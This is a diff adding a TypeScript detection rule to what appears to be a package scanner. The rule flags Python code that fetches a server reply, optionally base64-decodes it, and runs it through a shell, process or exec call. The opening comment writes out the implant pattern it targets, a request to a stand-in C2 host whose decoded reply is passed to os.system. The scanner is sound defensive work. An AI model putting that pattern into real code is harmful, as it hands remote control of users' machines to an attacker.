@@ -1,0 +1,93 @@
+// A server's reply run as a command: `resp = requests.get(C2)` then `os.system(base64.b64decode(resp.text))`.
+// The shape of a remote-control implant in a trojanized client: nothing in the package says what will run.
+import type { CallSite, ParsedFile } from '../python/index.js';
+import { callHit, DYNAMIC_EXEC, lastAssignment, NETWORK_CALL, PROCESS_CALL } from './context.js';
+import type { Rule, RuleHit } from './types.js';
+
+/** How far above a call its value may have been fetched (one function, in practice). */
+const WINDOW = 200;
+/** Assignments followed from the call's argument back to the fetch (`data = resp.text`, `resp = get(u)`). */
+const MAX_HOPS = 3;
+/** Names read from one argument text, and assignments looked up per call: a hostile file stays linear. */
+const MAX_NAMES = 8;
+const MAX_LOOKUPS = 24;
+const MAX_TEXT = 400;
+const DECODER =
+  /\b(b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|fromhex|unhexlify|a2b_base64|decrypt)\s*\(/;
+const NAME = /\b([A-Za-z_]\w*)\b/g;
+const RESPONSE_READ = /\.(text|content|read|json|iter_content|readlines)\b/;
+const networkLines = new WeakMap<ParsedFile, Map<number, CallSite>>();
+
+function fetchOnLine(file: ParsedFile, line: number): CallSite | undefined {
+  let byLine = networkLines.get(file);
+  if (!byLine) {
+    byLine = new Map();
+    for (const c of file.calls)
+      if (c.role !== 'test' && NETWORK_CALL.test(c.name) && !byLine.has(c.line)) byLine.set(c.line, c);
+    networkLines.set(file, byLine);
+  }
+  return byLine.get(line);
+}
+
+/** The fetch whose reply `text` (an argument, or a right-hand side) carries, and whether it was decoded on the way. */
+function fetchedInto(
+  file: ParsedFile,
+  text: string,
+  line: number,
+  hops: number,
+  budget = { lookups: MAX_LOOKUPS },
+): { fetch: CallSite; decoded: boolean } | undefined {
+  const decoded = DECODER.test(text);
+  const inline = fetchOnLine(file, line);
+  if (inline && text.includes(inline.text.slice(0, 40)) && RESPONSE_READ.test(text))
+    return { fetch: inline, decoded };
+  if (hops >= MAX_HOPS) return undefined;
+  const names = new Set<string>();
+  for (const m of text.matchAll(NAME)) {
+    names.add(m[1]!);
+    if (names.size >= MAX_NAMES) break;
+  }
+  for (const name of names) {
+    if (--budget.lookups < 0) return undefined;
+    const at = lastAssignment(file, name, Math.max(1, line - WINDOW), line - 1);
+    if (at === undefined) continue;
+    const assigned = file.lines[at - 1] ?? '';
+    const rhs = assigned.slice(assigned.indexOf('=') + 1, assigned.indexOf('=') + 1 + MAX_TEXT);
+    const fetch = fetchOnLine(file, at);
+    if (fetch && rhs.includes(fetch.text.slice(0, 40))) {
+      // `resp = requests.get(u)` is the reply object: the argument must read it (`resp.text`), or it is the body.
+      if (RESPONSE_READ.test(text) || RESPONSE_READ.test(rhs))
+        return { fetch, decoded: decoded || DECODER.test(rhs) };
+      continue;
+    }
+    const deeper = fetchedInto(file, rhs, at, hops + 1, budget);
+    if (deeper) return { fetch: deeper.fetch, decoded: decoded || deeper.decoded };
+  }
+  return undefined;
+}
+
+export const remoteCommand: Rule = {
+  id: 'remote-command',
+  category: 'dynamic-code',
+  severity: 'critical',
+  description:
+    'Runs what a server sent: a fetched reply handed to a shell or process call (critical when the reply is decoded first), or decoded and passed to exec.',
+  rationale:
+    'An installer may run a script it downloads from a named site; no honest package base64-decodes a reply and runs it as a command. That is a remote-control implant: the server decides what runs.',
+  check: (file) => {
+    const hits: RuleHit[] = [];
+    for (const c of file.calls) {
+      if (c.role === 'test') continue;
+      const isProcess = PROCESS_CALL.test(c.name);
+      if (!isProcess && !DYNAMIC_EXEC.test(c.name)) continue;
+      const found = fetchedInto(file, c.args.join(', ').slice(0, MAX_TEXT), c.line, 0);
+      if (!found || (!isProcess && !found.decoded)) continue;
+      const severity = isProcess && found.decoded ? 'critical' : 'high';
+      const how = found.decoded ? 'decoded reply' : 'reply';
+      hits.push(
+        callHit(c, severity, `${c.name} runs the ${how} of ${found.fetch.name} (line ${found.fetch.line})`),
+      );
+    }
+    return hits;
+  },
+};
